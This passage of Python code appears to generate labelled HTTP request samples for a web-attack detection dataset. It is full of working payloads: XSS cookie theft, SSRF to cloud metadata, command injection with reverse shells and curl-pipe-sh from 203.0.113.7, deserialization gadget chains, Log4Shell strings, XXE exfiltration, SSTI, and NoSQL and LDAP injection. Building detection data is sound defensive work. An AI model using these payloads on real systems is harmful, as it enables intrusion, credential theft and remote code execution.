    svg1 = "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"512\" height=\"512\" onload=\"alert(document.domain)\"><circle cx=\"256\" cy=\"256\" r=\"200\" fill=\"#f0a\"/></svg>\n"
    svg2 = "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 100 100\"><rect width=\"100\" height=\"100\"/><script type=\"text/javascript\">fetch('https://x.example/?'+document.cookie)</script></svg>\n"
    for svg in (svg1, svg2):
        ct, body = multipart(r, [("avatar", "avatar.svg", "image/svg+xml", svg), ("crop", "0,0,512,512")])
        g.add("svg-avatar", "PUT", SOC, "/api/v2/me/avatar", body=body, ctype=ct, client="web")
    g.add("reflected", "GET", SOC, "/api/v2/search", query=[("q", "<script>alert(1)</script>"), ("type", "top")], client="web")
    g.add("reflected", "GET", SOCWEB, "/search", query="q=%253Csvg%2520onload%253Dalert(1)%253E", client="web",
          accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
    g.add("reflected", "GET", SOCWEB, "/login", query=[("next", "javascript:alert(document.domain)")], client="web",
          accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
    g.add("claim", "POST", INS, f"/api/v2/claims/CLM-{r.randint(10**5, 10**6)}/messages",
          body={"message": "Unfall <object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"}, client="web")
    g.add("invoice-notes", "POST", ACC, "/api/v1/invoices", body={"number": "RE-2024-991", "notes": "<style>@import'//evil.example/x.css';</style>Thanks!", "lines": []}, client="web")
    g.add("escaped-json", "POST", SOC, "/api/v2/posts",
          body='{"text":"\\u041f\\u0440\\u0438\\u0432\\u0435\\u0442 \\u003cscript\\u003ealert(document.cookie)\\u003c/script\\u003e","visibility":"public"}',
          ctype="application/json", client="web")
    g.add("compose-form", "POST", SOCWEB, "/compose", body=form([("authenticity_token", b64(rbytes(r, 32))), ("status", "<scr<script>ipt>alert(1)</scr</script>ipt>"), ("visibility", "public")]),
          ctype="application/x-www-form-urlencoded", client="web")


def a_ssrf(out):
    g = G(out, "a-ssrf", "ssrf", "detect")
    r = g.r
    urls = ["http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
            "http://[::ffff:169.254.169.254]/latest/user-data",
            "http://2852039166/latest/meta-data/",
            "http://0xA9FEA9FE/latest/meta-data/",
            "http://127.0.0.1:6379/",
            "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
            "file:///etc/passwd",
            "http://localhost:8500/v1/agent/self",
            "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
            "http://127.1:9200/_cat/indices?v",
            "dict://127.0.0.1:11211/stats",
            "http://169.254.170.2/v2/credentials/",
            "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
            "http://[fd00:ec2::254]/latest/meta-data/",
            "http://cdn.orbit.social@169.254.169.254/latest/meta-data/",
            "http://169.254.169.254.nip.io/latest/meta-data/",
            "http://0.0.0.0:2375/containers/json",
            "http://internal-payouts.payments.svc.cluster.local:8080/admin/payouts?status=pending",
            "http://[0:0:0:0:0:ffff:127.0.0.1]:8080/actuator/env",
            "http://localhost:15000/config_dump",
            "http://istiod.istio-system.svc:15014/debug/endpointz",
            "http://017700000001/admin",
            "http://169.254.169.254/computeMetadata/v1/?recursive=true&alt=text"]
    places = [
        lambda u: g.add("avatar-import", "POST", SOC, "/api/v2/me/avatar/import", body={"url": u}, client=r.choice(["web", "ios"])),
        lambda u: g.add("link-preview", "GET", SOC, "/api/v2/link-preview", query=[("url", u)], client="web"),
        lambda u: g.add("link-preview", "POST", SOC, "/api/v2/link-preview", body={"url": u, "context": "composer"}, client="android"),
        lambda u: g.add("webhook", "POST", PAY, "/v1/webhook_endpoints", body=form([("url", u), ("enabled_events[]", "payout.paid"), ("description", "prod payouts")]),
                        ctype="application/x-www-form-urlencoded", client="server", auth="Bearer sk_live_" + pick(r, ALNUM, 24)),
        lambda u: g.add("statement-import", "POST", ACC, "/api/bank-statements/import-url", body={"url": u, "format": "camt.053"}, client="web"),
        lambda u: g.add("kyc-fetch", "POST", BANK, f"/v1/kyc/applicants/{uid(r)}/documents/fetch", body={"type": "utility_bill", "source_url": u}, client="server",
                        auth="Bearer " + jwt(r, f"https://{IDP}")),
        lambda u: g.add("img-proxy", "GET", SOCWEB, "/img", query=[("u", u), ("w", 640), ("sig", hexs(r, 16))], client="web", accept="image/avif,image/webp,*/*"),
        lambda u: g.add("feed-import", "POST", SOC, "/api/v2/me/feeds", body={"rss_url": u, "crosspost": True}, client="web"),
    ]
    for i, u in enumerate(urls):
        places[i % len(places)](u)


def a_rce(out):
    g = G(out, "a-rce", "rce", "detect")
    r = g.r
    g.add("export-get", "GET", BANK, "/api/v1/statements/export", query=[("format", "pdf"), ("filename", "statement_2024-11.pdf; curl http://203.0.113.7/s.sh | sh")], client="web")
    g.add("export-get", "GET", BANK, "/api/v1/statements/export", query=[("format", "pdf"), ("filename", "$(id).pdf")], client="web")
    g.add("export-get", "GET", ACC, "/api/v1/reports/profit-and-loss", query=[("format", "csv"), ("filename", "`whoami`.csv")], client="web")
    g.add("export-get", "GET", ACC, "/api/v1/reports/profit-and-loss", query="format=pdf&filename=report.pdf%0Aid%0A&from=2024-01-01", client="web")
    exports = [{"format": "pdf|nc -e /bin/sh 203.0.113.7 4444", "account": "main"},
               {"format": "pdf", "paper": "A4 && cat /etc/passwd"},
               {"format": "pdf", "locale": "de_DE;wget${IFS}http://203.0.113.7/x${IFS}-O-|sh"},
               {"format": "pdf", "header_html": "--post-file /etc/shadow http://203.0.113.7/"},
               {"format": "pdf", "title": "$(curl -s http://x.example/$(whoami))"},
               {"format": "pdf", "filename": "stmt.pdf;bash -i >& /dev/tcp/203.0.113.7/443 0>&1"},
               {"format": "xlsx", "filename": "q4.xlsx|powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"},
               {"format": "pdf", "filename": "x.pdf & ping -n 10 127.0.0.1 &"},
               {"format": "csv", "filename": "c''at /e\"\"tc/pa''sswd"},
               {"format": "pdf", "filename": "a.pdf;/???/??t /???/p??s??"},
               {"format": "pdf", "filename": "statement.pdf\nuname -a"},
               {"format": "pdf", "filename": "; python3 -c 'import pty;pty.spawn(\"/bin/sh\")'"}]
    for b in exports:
        g.add("export-json", "POST", r.choice([BANK, ACC]), "/api/v1/exports", body=b, client=r.choice(["web", "web", "ios"]))
    g.add("webhook-ping", "POST", PAY, "/v1/tools/ping", body={"host": "8.8.8.8; cat /var/run/secrets/kubernetes.io/serviceaccount/token"}, client="web")
    g.add("bot-expr", "PUT", CX, f"/api/v2/bots/{uid(r)}", body={"strategy": "custom", "params": {"entry": "__import__('os').system('curl http://203.0.113.7/$(hostname)')"}}, client="bot")
    g.add("report-expr", "POST", ACC, "/api/v1/reports/custom", body={"name": "margin", "expression": "require('child_process').execSync('cat /etc/passwd').toString()"}, client="web")
    mvg = "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://x.example/image.jpg\"|curl \"203.0.113.7/p)'\npop graphic-context\n"
    ct, body = multipart(r, [("avatar", "avatar.mvg", "image/jpeg", mvg)])
    g.add("imagemagick", "PUT", SOC, "/api/v2/me/avatar", body=body, ctype=ct, client="web")
    g.add("ruby-open", "POST", ACC, "/api/bank-statements/import-url", body={"url": "|curl http://203.0.113.7/p | sh", "format": "mt940"}, client="web")
    g.add("ssi", "POST", FORUM, f"/api/v1/threads/{r.randint(1000, 99999)}/posts", body={"raw": "<!--#exec cmd=\"cat /etc/passwd\" -->"}, client="web")
    for p, host, path, field in [("=cmd|' /C calc'!A0", SOC, "/api/v2/me", "display_name"),
                                 ("@SUM(1+1)*cmd|' /C powershell IEX(wget 0r.pe/p)'!A0", BANK, f"/api/v1/transactions/{uid(r)}", "note"),
                                 ("=DDE(\"cmd\";\"/C calc\";\"!A0\")A0", ACC, "/api/v1/contacts", "company")]:
        g.add("dde", "PATCH" if "transactions" in path or path.endswith("/me") else "POST", host, path, body={field: p}, client="web")


def a_lfi(out):
    g = G(out, "a-lfi", "lfi", "detect")
    r = g.r
    dl = ["../../../../etc/passwd", "....//....//....//etc/passwd", "..\\..\\..\\..\\windows\\win.ini", "/proc/self/environ",
          "../../../../var/run/secrets/kubernetes.io/serviceaccount/token", "../../app/.env", "../../../../root/.aws/credentials",
          "C:\\Windows\\System32\\drivers\\etc\\hosts", "/proc/self/cwd/config/database.yml", "../../../../var/log/nginx/access.log"]
    for f in dl:
        g.add("download", "GET", r.choice([BANK, INS, ACC]), "/api/v1/documents/download", query=[("file", f), ("disposition", "attachment")], client="web")
    for raw in ["file=..%2f..%2f..%2f..%2fetc%2fpasswd", "file=%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fshadow",
                "file=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", "file=/etc/passwd%00.pdf", "lang=../../../../../../etc/passwd%00"]:
        g.add("download-raw", "GET", ACC, "/api/v1/documents/download" if raw.startswith("file") else "/i18n/messages", query=raw, client="web")
    g.add("path", "GET", ACC, "/static/..;/..;/WEB-INF/web.xml", client="web", accept="*/*")
    g.add("path", "GET", BANK, "/api/v1/documents/..%2f..%2f..%2f..%2fetc%2fhosts", client="web")
    ct, body = multipart(r, [("file", "../../../../var/www/html/x.php", "image/jpeg", fake_image(r))])
    g.add("upload-name", "POST", INS, "/api/v2/claims/CLM-448812/attachments", body=body, ctype=ct, client="web")
    g.add("template", "POST", ACC, "/api/v1/invoices/render", body={"invoice": "RE-2024-101", "template": "../../../../etc/passwd"}, client="web")
    g.add("template", "POST", ACC, "/api/v1/invoices/render", body={"invoice": "RE-2024-102", "template": "../../../../../proc/self/environ"}, client="ios")


def a_rfi(out):
    g = G(out, "a-rfi", "rfi", "detect")
    r = g.r
    for k, v in [("template", "http://203.0.113.7/shell.txt?"), ("include", "https://pastebin.com/raw/Xy12AbCd"),
                 ("lang", "ftp://203.0.113.7/pub/x.php"), ("page", "\\\\203.0.113.7\\share\\x.php"),
                 ("theme", "http://evil.example/t.php\x00"), ("layout", "//evil.example/inc/header")]:
        g.add("param", "GET", FORUM, "/index.php", query=[(k, v), ("sid", hexs(r, 32))], client="web",
              accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
    g.add("param-raw", "GET", FORUM, "/viewtopic.php", query="t=4471&skin=http%3A%2F%2F203.0.113.7%2Fc99.txt%3F", client="web")
    g.add("theme-import", "POST", FORUM, "/admin/themes/import", body={"plugin_url": "https://raw.githubusercontent.com/attacker/x/main/shell.php?"}, client="web")


def php_s(s):
    return f's:{len(s.encode())}:"{s}";'


def a_php(out):
    g = G(out, "a-php", "php", "detect")
    r = g.r
    obj1 = 'O:8:"stdClass":2:{' + php_s("role") + php_s("admin") + php_s("balance") + 'd:999999;}'
    g.add("cookie", "GET", FORUM, "/ucp.php", query=[("i", "profile")], client="web", cookie="cart=" + quote(obj1, safe=""))
    gadget = ('O:32:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"\x00*\x00socket";O:29:"Monolog\\Handler\\BufferHandler":7:{'
              's:10:"\x00*\x00handler";r:2;s:13:"\x00*\x00bufferSize";i:-1;s:9:"\x00*\x00buffer";a:1:{i:0;a:2:{i:0;s:2:"id";s:5:"level";N;}}'
              's:8:"\x00*\x00level";N;s:14:"\x00*\x00initialized";b:1;s:14:"\x00*\x00bufferLimit";i:-1;s:13:"\x00*\x00processors";a:2:{i:0;s:7:"current";i:1;s:6:"system";}}}')
    g.add("cookie", "GET", ACC, "/dashboard", client="web", cookie="remember_web=" + b64(gadget),
          accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
    g.add("cookie", "GET", FORUM, "/index.php", client="web",
          cookie="prefs=" + quote('a:2:{i:0;O:24:"GuzzleHttp\\Psr7\\FnStream":2:{s:33:"\x00GuzzleHttp\\Psr7\\FnStream\x00methods";a:1:{s:5:"close";s:7:"phpinfo";}s:9:"_fn_close";s:7:"phpinfo";}i:1;i:1;}', safe=""))
    g.add("form", "POST", FORUM, "/ucp.php", query=[("i", "prefs")],
          body=form([("filter", 'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\x00*\x00events";O:15:"Faker\\Generator":1:{s:13:"\x00*\x00formatters";a:1:{s:8:"dispatch";s:6:"system";}}s:8:"\x00*\x00event";s:2:"id";}'),
                     ("form_token", hexs(r, 40))]),
          ctype="application/x-www-form-urlencoded", client="web")
    g.add("phar", "GET", SOC, "/api/v2/media/thumbnail", query=[("path", "phar://uploads/avatars/4711.jpg/test.txt"), ("w", 128)], client="web")
    g.add("wrapper", "GET", ACC, "/api/v1/documents/download", query=[("file", "php://filter/convert.base64-encode/resource=../config/database.php")], client="web")
    g.add("wrapper", "GET", FORUM, "/index.php", query=[("lang", "expect://id")], client="web")
    g.add("wrapper", "GET", FORUM, "/index.php", query=[("include", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+")], client="web")
    ct, body = multipart(r, [("avatar", "avatar.php.jpg", "image/jpeg", "GIF89a;\n<?php system($_GET['c']); ?>\n")])
    g.add("upload", "POST", FORUM, "/ucp.php", query=[("i", "avatar")], body=body, ctype=ct, client="web")
    g.add("json", "POST", ACC, "/api/v1/session/restore",
          body={"session": 'O:29:"App\\Services\\ExportScheduler":1:{s:7:"command";s:24:"rm -rf /var/www/storage";}', "v": 2}, client="web")


def java_ser(r, classes):
    b = b"\xac\xed\x00\x05"
    for c in classes:
        b += b"sr" + len(c).to_bytes(2, "big") + c.encode() + rbytes(r, 8) + b"\x02\x00\x01L\x00\x03keyt\x00\x12Ljava/lang/Object;xp"
    return b


def a_java(out):
    g = G(out, "a-java", "java", "detect")
    r = g.r
    l4 = ["${jndi:ldap://203.0.113.7:1389/Exploit}", "${jndi:rmi://x.example/a}",
          "${${lower:j}ndi:${lower:l}dap://x.example/p}", "${${::-j}${::-n}${::-d}${::-i}:dns://x.example/z}",
          "${jndi:ldaps://203.0.113.7/a}", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.example/a}"]
    g.add("log4shell-ua", "GET", BANK, "/api/v1/accounts", client="server", auth="Bearer " + jwt(r, f"https://{IDP}"),
          headers=[["Host", BANK], ["User-Agent", l4[0]], ["Accept", "*/*"], ["X-Forwarded-For", client_ip(r)], ["X-Request-Id", uid(r)]])
    g.add("log4shell-header", "GET", CX, "/api/v2/orderbook", query=[("market", "BTC-USDT")], client="bot", extra=[("X-Api-Version", l4[1])])
    g.add("log4shell-header", "GET", SOCWEB, "/", client="web", referer=l4[2], accept="text/html,*/*;q=0.8")
    g.add("log4shell-header", "GET", INS, "/api/v2/quotes/motor", client="server", extra=[("X-Client-IP", l4[3])])
    g.add("log4shell-header", "GET", OB, "/v1/accounts", client="server", auth="Bearer " + l4[4])
    g.add("log4shell-cookie", "GET", FORUM, "/", client="web", cookie="lang=" + l4[0].replace("Exploit", "c"))
    g.add("log4shell-query", "GET", SOC, "/api/v2/search", query="q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.7%2Fa%7D&type=top", client="web")
    g.add("log4shell-body", "PATCH", SOC, "/api/v2/me", body={"display_name": l4[5]}, client="web")
    ser = java_ser(r, ["org.apache.commons.collections.keyvalue.TiedMapEntry", "org.apache.commons.collections.functors.InvokerTransformer"])
    g.add("deser-cookie", "GET", INS, "/portal/home", client="web", cookie="rememberMe=" + b64(ser), accept="text/html,*/*;q=0.8")
    ser2 = java_ser(r, ["java.util.PriorityQueue", "org.apache.commons.beanutils.BeanComparator", "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"])
    g.add("deser-viewstate", "POST", INS, "/portal/claims.xhtml", body=form([("javax.faces.ViewState", b64(ser2)), ("claimForm:submit", "Senden")]),
          ctype="application/x-www-form-urlencoded", client="web")
    g.add("deser-json", "POST", BANK, "/api/v1/session/import", body={"state": b64(java_ser(r, ["java.util.HashMap", "java.net.URL"]))}, client="server")
    g.add("jackson", "POST", INS, "/api/v2/quotes", body='["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://203.0.113.7:1389/Obj","autoCommit":true}]',
          ctype="application/json", client="web")
    g.add("fastjson", "POST", CX, "/api/v2/orders", body='{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://203.0.113.7:1099/Exploit","autoCommit":true}',
          ctype="application/json", client="bot")
    xs = ("<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface>"
          "<handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>curl</string>"
          "<string>http://203.0.113.7/x</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>")
    g.add("xstream", "POST", INS, "/api/v1/claims/import", body=xs, ctype="application/xml", client="server")
    g.add("spring4shell", "POST", INS, "/portal/quote",
          body="class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di.getRuntime().exec(request.getParameter(%22cmd%22)).getInputStream()%3B%7D%20%25%7Bsuffix%7Di"
               "&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT"
               "&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=",
          ctype="application/x-www-form-urlencoded", client="web")
    ognl = ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):"
            "((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))"
            ".(#ognlUtil.getExcludedPackageNames().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd}))"
            ".(#p.redirectErrorStream(true)).(#process=#p.start())}")
    g.add("ognl", "POST", INS, "/portal/upload.action", body="", client="web", ctype=ognl)
    g.add("spel", "GET", ACC, "/api/v1/invoices", query=[("sort", "T(java.lang.Runtime).getRuntime().exec('id')"), ("page", 0)], client="web")
    g.add("el", "PATCH", INS, "/api/v2/me", body={"display_name": "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"}, client="web")


def a_xxe(out):
    g = G(out, "a-xxe", "xxe", "detect")
    r = g.r
    auth = lambda: "Bearer " + jwt(r, f"https://{IDP}")
    g.add("pain001", "POST", BANK, "/v2/bulk-payments",
          body=pain001(r, doctype='<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n', raw_field="&xxe;"),
          ctype="application/xml; charset=utf-8", client="server", auth=auth())
    ct, body = multipart(r, [("account_id", "4711"), ("statement", "camt053_2024-11.xml", "text/xml",
                                                     camt053(r, doctype='<!DOCTYPE Document [<!ENTITY tok SYSTEM "file:///var/run/secrets/kubernetes.io/serviceaccount/token">]>\n', addtl="&tok;"))])
    g.add("camt053", "POST", ACC, "/api/bank-statements/import", body=body, ctype=ct, client="web")
    g.add("pain001-oob", "POST", BANK, "/v2/bulk-payments",
          body=pain001(r, doctype='<!DOCTYPE Document [<!ENTITY % dtd SYSTEM "http://203.0.113.7/evil.dtd"> %dtd; %send;]>\n'),
          ctype="application/xml", client="server", auth=auth())
    g.add("external-dtd", "POST", ACC, "/api/integrations/ebics/status",
          body=pain002(r).replace('<Document', '<!DOCTYPE Document SYSTEM "https://attacker.example/pain.dtd">\n<Document', 1),
          ctype="application/xml", client="server", auth="Basic " + b64("ebics-bridge:x"))
    g.add("xinclude", "POST", ACC, "/api/bank-statements/camt054",
          body=camt053(r, extra_xml='      <xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/hostname"/>\n'),
          ctype="application/xml", client="web")
    svg = ('<?xml version="1.0" standalone="yes"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>\n'
           '<svg width="256" height="256" xmlns="http://www.w3.org/2000/svg"><text x="10" y="40" font-size="16">&xxe;</text></svg>\n')
    ct, body = multipart(r, [("avatar", "me.svg", "image/svg+xml", svg)])
    g.add("svg", "PUT", SOC, "/api/v2/me/avatar", body=body, ctype=ct, client="web")
    lol = ('<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">\n'
           ' <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">\n <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">\n'
           ' <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">\n]>\n'
           '<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.002.001.10"><CstmrPmtStsRpt><GrpHdr><MsgId>&lol5;</MsgId></GrpHdr></CstmrPmtStsRpt></Document>\n')
    g.add("billion-laughs", "POST", ACC, "/api/integrations/ebics/status", body=lol, ctype="application/xml", client="server",
          auth="Basic " + b64("ebics-bridge:x"))
    g.add("php-filter", "POST", ACC, "/api/bank-statements/camt053",
          body=camt053(r, doctype='<!DOCTYPE Document [<!ENTITY cfg SYSTEM "php://filter/read=convert.base64-encode/resource=/var/www/html/.env">]>\n', addtl="&cfg;"),
          ctype="text/xml", client="web")
    g.add("expect", "POST", BANK, "/v2/bulk-payments",
          body=pain001(r, doctype='<!DOCTYPE Document [<!ENTITY x SYSTEM "expect://id">]>\n', raw_field="&x;"),
          ctype="application/xml", client="server", auth=auth())
    soap = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE soap:Envelope [<!ENTITY ent SYSTEM "file:///c:/windows/win.ini">]>\n'
            '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:cl="http://safenest-insurance.com/claims/v3">'
            '<soap:Body><cl:SubmitClaim><cl:PolicyNumber>SN-4471123</cl:PolicyNumber><cl:Description>&ent;</cl:Description></cl:SubmitClaim></soap:Body></soap:Envelope>\n')
    g.add("soap-claim", "POST", INS, "/ws/ClaimsService", body=soap, ctype="text/xml; charset=utf-8", client="server",
          extra=[("SOAPAction", '"http://safenest-insurance.com/claims/v3/SubmitClaim"')])
    g.add("ssrf-entity", "POST", BANK, "/v2/bulk-payments",
          body=pain001(r, doctype='<!DOCTYPE Document [<!ENTITY meta SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]>\n', raw_field="&meta;"),
          ctype="application/xml", client="server", auth=auth())
    g.add("public-id", "POST", ACC, "/api/payment-runs/import-xml",
          body=pain001(r, doctype='<!DOCTYPE Document PUBLIC "-//ISO//DTD pain.001//EN" "http://203.0.113.7/pain001.dtd">\n'),
          ctype="application/xml", client="web")
    g.add("jar", "POST", INS, "/api/v1/claims/import",
          body='<?xml version="1.0"?>\n<!DOCTYPE claim [<!ENTITY j SYSTEM "jar:https://attacker.example/evil.jar!/payload.txt">]>\n<claim><policy>SN-1</policy><note>&j;</note></claim>\n',
          ctype="application/xml", client="server")
    ct, body = multipart(r, [("format", "pain.001.001.09"), ("file", "payroll_dec.xml", "text/xml",
                                                              pain001(r, doctype='<!DOCTYPE Document [<!ENTITY % p SYSTEM "file:///etc/shadow"><!ENTITY % w "<!ENTITY &#x25; x SYSTEM \'http://203.0.113.7/?d=%p;\'>">%w;%x;]>\n'))])
    g.add("pain001-upload", "POST", ACC, "/api/payment-runs/import", body=body, ctype=ct, client="web")
    saml = ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_'
            + hexs(r, 32) + '" Version="2.0"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">&x;</saml:Issuer></samlp:Response>')
    g.add("saml", "POST", SSO, "/saml/acs", body=form([("SAMLResponse", b64(saml)), ("RelayState", "/dashboard")]),
          ctype="application/x-www-form-urlencoded", client="web")
    rss = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
           '<rss version="2.0"><channel><title>My blog</title><item><title>&x;</title><link>https://blog.example/1</link></item></channel></rss>\n')
    g.add("rss", "POST", SOC, "/api/v2/me/feeds/upload", body=rss, ctype="application/rss+xml", client="web")
    local = ('<?xml version="1.0"?>\n<!DOCTYPE message [\n<!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">\n'
             '<!ENTITY % ISOamso \'<!ENTITY &#x25; file SYSTEM "file:///etc/passwd"><!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">&#x25;eval;&#x25;error;\'>\n'
             '%local_dtd;\n]>\n<message>statement</message>\n')
    g.add("local-dtd", "POST", ACC, "/api/bank-statements/import-xml", body=local, ctype="application/xml", client="web")


def a_ssti(out):
    g = G(out, "a-ssti", "ssti", "detect")
    r = g.r
    tmpls = ["Hallo {{ config.__class__.__init__.__globals__['os'].popen('id').read() }}",
             "{{ ''.__class__.__mro__[1].__subclasses__() }}",
             "Hi {{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}, your payment arrived",
             "{{ lipsum.__globals__['os'].popen('id').read() }}",
             "{% import os %}{{ os.popen('whoami').read() }}",
             "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
             "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()",
             "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
             "{{['id']|filter('system')}}",
             "{system('cat /etc/passwd')}",
             "<%= `id` %>",
             "<%= File.open('/etc/passwd').read %>",
             "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"]
    for t in tmpls:
        g.add("template", "PUT", ACC, f"/api/v1/notification-templates/{r.choice(['payment_received', 'invoice_due', 'welcome'])}",
              body={"channel": "email", "locale": "en-GB", "subject": "Payment received", "body": t}, client="web")
    g.add("preview", "GET", ACC, "/api/v1/notification-templates/preview", query=[("view", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x")], client="web")
    g.add("display-name", "PATCH", SOC, "/api/v2/me",
          body={"display_name": "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}"}, client="android")
    g.add("clan-motto", "POST", GAME, "/api/v1/clans", body={"tag": "MAK", "name": "Mako", "motto": "${self.module.cache.util.os.system('id')}"}, client="web")


def a_nosqli(out):
    g = G(out, "a-nosqli", "nosqli", "detect")
    r = g.r
    g.add("login-json", "POST", DATE, "/v3/auth/login", body={"username": "admin", "password": {"$ne": None}}, client="web")
    g.add("login-form", "POST", SOCWEB, "/api/login", body="username[$ne]=x&password[$ne]=x", ctype="application/x-www-form-urlencoded", client="web")
    g.add("login-form", "POST", SOCWEB, "/api/login", body="username%5B%24regex%5D=%5Eadm&password%5B%24gt%5D=", ctype="application/x-www-form-urlencoded", client="web")
    g.add("login-json", "POST", GAME, "/api/v1/auth/login", body={"username": {"$in": ["admin", "root", "support"]}, "password": {"$exists": True}}, client="ios")
    g.add("login-json", "POST", STREAM, "/api/v1/auth/login", body={"email": {"$regex": ".*"}, "password": {"$nin": [""]}}, client="web")
    g.add("feed", "POST", SOC, "/api/v2/feed/query", body={"filter": {"$where": "this.balance > 1000 || sleep(5000)"}}, client="web")
    g.add("feed", "GET", SOC, "/api/v2/feed", query="author[$ne]=null&visibility[$nin][]=private&limit=20", client="web")
    g.add("feed", "POST", SOC, "/api/v2/feed/query", body={"filter": {"$or": [{}, {"visibility": "private"}]}}, client="android")
    g.add("search-js", "POST", DATE, "/v3/search", body={"name": "'; while(true){}; var x='", "age_min": 18}, client="web")
    g.add("aggregate", "POST", SOC, "/api/v2/analytics/aggregate",
          body={"pipeline": [{"$lookup": {"from": "users", "localField": "author", "foreignField": "_id", "as": "u"}}, {"$project": {"u.password": 1, "u.email": 1}}]}, client="web")
    g.add("feed", "POST", SOC, "/api/v2/feed/query",
          body={"filter": {"$expr": {"$function": {"body": "function(){ sleep(5000); return true; }", "args": [], "lang": "js"}}}}, client="web")
    g.add("leaderboard", "GET", GAME, "/api/v1/leaderboards/ranked", query="player[$regex]=^a&player[$options]=i&season=2024-S4", client="web")
    g.add("mfa", "POST", BANK, "/api/v1/auth/mfa/verify", body={"challenge_id": uid(r), "code": {"$gt": ""}}, client="web")
    g.add("reset", "POST", DATE, "/v3/auth/reset", body={"token": {"$ne": "x"}, "new_password": "pwned123!"}, client="web")


def a_ldapi(out):
    g = G(out, "a-ldapi", "ldapi", "detect")
    r = g.r
    for q in ["*)(uid=*))(|(uid=*", "*)(|(objectClass=*)", "jdoe)(|(memberOf=CN=Domain Admins,CN=Users,DC=corp,DC=ledgerly,DC=co)",
              "*)(userPassword=*)", "x*)(objectClass=*))(&(objectClass=void", "*)(description=*pass*"]:
        g.add("directory", "GET", SSO, "/api/directory/users", query=[("q", q), ("fields", "displayName,mail"), ("limit", 10)], client="web")
